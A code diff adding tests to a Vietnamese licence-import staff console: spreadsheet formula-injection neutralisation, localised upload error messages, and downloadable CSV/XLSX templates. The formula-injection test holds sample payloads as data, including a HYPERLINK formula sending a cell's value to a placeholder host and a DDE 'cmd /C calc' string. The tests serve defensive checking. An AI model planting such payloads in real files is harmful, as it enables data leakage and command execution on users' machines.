@@ -1,5 +1,7 @@
 import { afterEach, describe, expect, it } from "vitest";
+import ExcelJS from "exceljs";
 import { insertImport, replaceRejectedRows, updateImport, type StaffRole } from "@hccd/db";
+import { LICENCE_COLUMNS } from "@hccd/shared";
 import { twoAgencyCatalogue } from "../testing/fixtures.js";
 import { createTestWorld, type TestWorld } from "../testing/world.js";
 import { consoleLogin, consoleRequest } from "../testing/console.js";
@@ -40,14 +42,14 @@ async function session(role: StaffRole, username: string) {
 }
 
 /** The console's upload form as a browser sends it: multipart, with the CSRF field. */
-function uploadForm(s: { cookie: string; token: string }, name: string, content: string) {
+function uploadForm(s: { cookie: string; token: string }, name: string, content: string | Uint8Array) {
   const form = new FormData();
   form.set("_csrf", csrfTokenFor(s.token));
-  form.set("file", new File([content], name, { type: "text/csv" }));
+  form.set("file", new File([typeof content === "string" ? content : new Blob([content as Uint8Array<ArrayBuffer>])], name, { type: "text/csv" }));
   return w.app.request("/staff/imports", { method: "POST", headers: { cookie: s.cookie, "sec-fetch-site": "same-origin" }, body: form });
 }
 
-async function uploadAndFinish(s: { cookie: string; token: string }, name = "vhttdl.csv", content = CSV): Promise<string> {
+async function uploadAndFinish(s: { cookie: string; token: string }, name = "vhttdl.csv", content: string | Uint8Array = CSV): Promise<string> {
   const res = await uploadForm(s, name, content);
   expect(res.status).toBe(303);
   const location = res.headers.get("location")!;
@@ -112,6 +114,39 @@ describe("the imports area of the console", () => {
     expect(detail).toMatchObject({ status: "finished", rows: 3, created: 0, rejected: 3 });
   });
 
+  // Finding 5 (issue 13): a rejected cell starting with = + - @ ran as a formula when rejected.csv
+  // was opened in Excel. Phones start with + and negative numbers with -, so the importer reads
+  // the neutralising ' back: fixing and re-uploading the file changes no value.
+  it("writes rejected cells that a spreadsheet would run neutralised, and reads them back as they were", async () => {
+    world();
+    const officer = await session("department", "so-vhttdl");
+    const dangerous = `${HEADER}
+tour-guide-card,"=HYPERLINK(""http://x.example/?""&A1)",Cá nhân,Lê Văn Hùng,,+84 12345,,2027-01-01,,@SUM(1+1)
+tour-guide-card,-2+3+cmd|' /C calc'!A0,Ông,Trần Thị Mai,,+84 912 345 678,,2027-01-01,,"	=1+1"
+tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
+`;
+    const first = await uploadAndFinish(officer, "nguy-hiem.csv", dangerous);
+    const download = await (await consoleRequest(w, `/staff/imports/${first}/rejected.csv`, { cookie: officer.cookie })).text();
+    const cells = download.split("\r\n").slice(1, -1).flatMap((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
+    // No cell of the file starts with a character a spreadsheet reads as the start of a formula.
+    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(download).toContain("'=HYPERLINK(");
+    expect(download).toContain("'+84 912 345 678");
+    // A leading ' in the upload is the spreadsheet user's own "keep this as text" mark: read as such.
+    expect(download).toContain(",'=quote,");
+
+    const again = await uploadAndFinish(officer, "nguy-hiem-sua.csv", download);
+    const problems = async (id: string) => {
+      const detail = (await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json()) as { report: { column: string; reason: string; values: Record<string, string> }[] };
+      return detail.report.map(({ column, reason, values }) => ({ column, reason, values }));
+    };
+    // The same rejections, for the same values as first uploaded.
+    const before = await problems(first);
+    expect(await problems(again)).toEqual(before);
+    expect(before.map((p) => p.values.document_no)).toContain("-2+3+cmd|' /C calc'!A0");
+    expect(before.find((p) => p.values.document_no === "HDV-3")?.values.address).toBe("=quote");
+  });
+
   it("serves the same file on the staff API, in English headers on request", async () => {
     world();
     const officer = await session("department", "so-vhttdl");
@@ -168,11 +203,11 @@ describe("the imports area of the console", () => {
     expect(html).toMatch(/data-testid="count-rejected">1201</);
     expect(html).toContain("Chỉ giữ lại chi tiết của 1000 dòng bị từ chối đầu tiên trong tổng số 1201 dòng; 201 dòng còn lại không được lưu.");
     expect(html).toContain("Tệp gồm 1000 dòng bị từ chối đầu tiên (201 dòng còn lại không được lưu nên không có trong tệp)");
-    // Row 2's address (1,400 characters) is shown cut, saying so.
+    // Row 2's address (1,400 characters) is shown as the reader cut it, saying so.
     expect(html).toMatch(/<tr data-row="2">.*đã cắt bớt; giá trị gốc dài 1400 ký tự/s);
     const counts = /<table data-testid="problem-counts">(.*?)<\/table>/s.exec(html)?.[1] ?? "";
     expect(counts).toMatch(/Số điện thoại.*không phải số di động Việt Nam.*1200/s);
-    expect(counts).toMatch(/Địa chỉ.*dài quá 300 ký tự.*1/s);
+    expect(counts).toMatch(/Địa chỉ.*dài 1400 ký tự, quá 1000 ký tự một ô được phép: đã cắt bớt.*1/s);
     expect(html).toContain("Trang 1/10");
   });
 
@@ -191,6 +226,34 @@ describe("the imports area of the console", () => {
     expect(fake.status).toBe(422);
     expect(await fake.text()).toContain("không phải bảng tính Excel");
     expect(w.handle.sqlite.prepare("select count(*) as n from imports").get()).toEqual({ n: 0 });
+  });
+
+  // Finding 11 (issue 13): a fake .xlsx failed with "FILE_ENDED", a huge one with "Invalid string
+  // length"; a header problem was English only. The officer reads what is wrong and what to do.
+  it("says in the officer's language why a file was refused, what its header lacks, and what it did not import", async () => {
+    world();
+    const officer = await session("department", "so-vhttdl");
+    const page = async (id: string) => (await consoleRequest(w, `/staff/imports/${id}`, { cookie: officer.cookie })).text();
+    const fakeXlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...new TextEncoder().encode("không phải bảng tính, chỉ giống ở hai byte đầu")]);
+    const fake = await page(await uploadAndFinish(officer, "gia.xlsx", fakeXlsx));
+    expect(fake).toContain('data-status="failed"');
+    expect(fake).toContain("Không nhập được tệp: tệp bị hỏng hoặc không đầy đủ (tải lên bị gián đoạn?): vui lòng mở bằng Excel, lưu lại rồi tải lên lại");
+    expect(fake).not.toMatch(/FILE_ENDED|invalid signature/);
+
+    const typo = await page(await uploadAndFinish(officer, "sai-tieu-de.csv", "Mã dịch vụ,Số giấy phép,Loại chủ thể,Tên tổ chức/cá nhân,So dien thoa\ntour-guide-card,HDV-1,Cá nhân,Lê Văn Hùng,0912345678\n"));
+    expect(typo).toContain("Không nhập được tệp: dòng tiêu đề không theo mẫu danh sách");
+    expect(typo).toContain("cột “So dien thoa” không có trong mẫu danh sách: nếu đó là cột “Số điện thoại” (phone), vui lòng đổi tên cột cho đúng rồi tải lên lại");
+    expect(typo).toContain("thiếu cột bắt buộc (tiêu đề “expires_on” hoặc “Ngày hết hạn”)");
+
+    const noted = await page(await uploadAndFinish(officer, "ghi-chu.csv", `${HEADER},Ghi chú\ntour-guide-card,HDV-009,Cá nhân,Lê Văn Hùng,,0912345678,,2027-03-01,,,đã gọi\n`));
+    expect(noted).toContain('data-status="finished"');
+    expect(noted).toMatch(/<td>Cả tệp<\/td>\s*<td><\/td>\s*<td>cột “Ghi chú” không có trong mẫu danh sách: các giá trị của cột này không được nhập<\/td>/);
+    expect(noted).toMatch(/data-testid="count-rejected">0</);
+
+    // An old .xls named .csv is refused at once, saying what it is.
+    const xls = await uploadForm(officer, "danh-sach.csv", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]));
+    expect(xls.status).toBe(422);
+    expect(await xls.text()).toContain("tệp là bảng tính Excel cũ (.xls) hoặc có đặt mật khẩu");
   });
 
   it("refuses an upload form without the CSRF token", async () => {
@@ -217,5 +280,70 @@ describe("the imports area of the console", () => {
     const adminList = await (await consoleRequest(w, "/staff/imports", { cookie: admin.cookie })).text();
     expect(adminList).toContain("toan-tinh.csv");
     expect(adminList).toContain(`/staff/imports/${mine}`);
+  });
+});
+
+// Newcomer friction (issue 13): the import page did not say which columns a list has, which are
+// required, which service codes exist, nor offer a file to start from.
+describe("the import page's help and templates", () => {
+  it("lists every column (label and key, required or not) and the service codes the officer may import", async () => {
+    world();
+    const officer = await session("department", "so-vhttdl");
+    const html = await (await consoleRequest(w, "/staff/imports", { cookie: officer.cookie })).text();
+    const columns = html.slice(html.indexOf('data-testid="import-columns"'));
+    for (const c of LICENCE_COLUMNS) {
+      expect(columns).toMatch(new RegExp(`<th scope="row">${c.label}</th>\\s*<td><code>${c.key}</code></td>\\s*<td>${c.required ? "Bắt buộc" : "Không bắt buộc"}</td>`));
+    }
+    const services = html.slice(html.indexOf('data-testid="import-services"'));
+    expect(services).toContain("<code>tour-guide-card</code>");
+    expect(services).toContain("thẻ hướng dẫn viên du lịch");
+    // Another agency's service is not the officer's to import.
+    expect(services).not.toContain("petrol-retail-licence");
+    expect(html).toContain('href="/staff/imports/template.xlsx"');
+    expect(html).toContain('href="/staff/imports/template.csv"');
+    const admin = await session("admin", "quan-tri");
+    const all = await (await consoleRequest(w, "/staff/imports", { cookie: admin.cookie })).text();
+    expect(all.slice(all.indexOf('data-testid="import-services"'))).toContain("<code>petrol-retail-licence</code>");
+  });
+
+  it("offers a CSV template that imports cleanly once a row is added", async () => {
+    world();
+    const officer = await session("department", "so-vhttdl");
+    const res = await consoleRequest(w, "/staff/imports/template.csv", { cookie: officer.cookie });
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(res.headers.get("content-disposition")).toBe('attachment; filename="mau-danh-sach-giay-phep.csv"');
+    const template = new TextDecoder("utf-8", { ignoreBOM: true }).decode(new Uint8Array(await res.arrayBuffer()));
+    // The header row only: an example row left in place would be imported as a real document.
+    expect(template).toBe(`\uFEFF${HEADER}\r\n`);
+    const id = await uploadAndFinish(officer, "tu-mau.csv", `${template}tour-guide-card,HDV-777,Cá nhân,Lê Văn Hùng,072092004321,0912345678,01/03/2022,01/03/2027,25453,"Số 12, đường 30/4"\r\n`);
+    const detail = await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json();
+    expect(detail).toMatchObject({ status: "finished", created: 1, rejected: 0, report: [] });
+  });
+
+  it("offers an .xlsx template whose ID, phone and ward columns keep their leading zeros, and which imports cleanly once filled", async () => {
+    world();
+    const officer = await session("department", "so-vhttdl");
+    const res = await consoleRequest(w, "/staff/imports/template.xlsx", { cookie: officer.cookie });
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
+    expect(res.headers.get("content-disposition")).toBe('attachment; filename="mau-danh-sach-giay-phep.xlsx"');
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(await res.arrayBuffer());
+    expect(wb.worksheets).toHaveLength(1);
+    const sheet = wb.worksheets[0]!;
+    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADER.split(","));
+    expect(sheet.rowCount).toBe(1);
+    const col = (key: string) => LICENCE_COLUMNS.findIndex((c) => c.key === key) + 1;
+    for (const key of ["document_no", "holder_id", "phone", "ward_code"]) expect(sheet.getColumn(col(key)).numFmt, key).toBe("@");
+    expect(sheet.getColumn(col("expires_on")).numFmt).toBe("dd/mm/yyyy");
+    expect(String(sheet.getCell(1, col("holder_id")).note)).toContain("12 chữ số");
+    // Filled as an officer types into it: text where the column is text, dates as dates.
+    sheet.addRow(["tour-guide-card", "HDV-778", "Cá nhân", "Trần Thị Mai", "072092004321", "0912345678", new Date(Date.UTC(2022, 2, 1)), new Date(Date.UTC(2027, 2, 1)), "25453", "Số 12, đường 30/4"]);
+    const filled = new Uint8Array(await wb.xlsx.writeBuffer());
+    const id = await uploadAndFinish(officer, "tu-mau.xlsx", filled);
+    const detail = await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json();
+    expect(detail).toMatchObject({ status: "finished", created: 1, rejected: 0, report: [] });
+    expect(w.handle.sqlite.prepare("select holder_id, phone, expires_on from documents").get()).toEqual({ holder_id: "072092004321", phone: "84912345678", expires_on: "2027-03-01" });
   });
 });
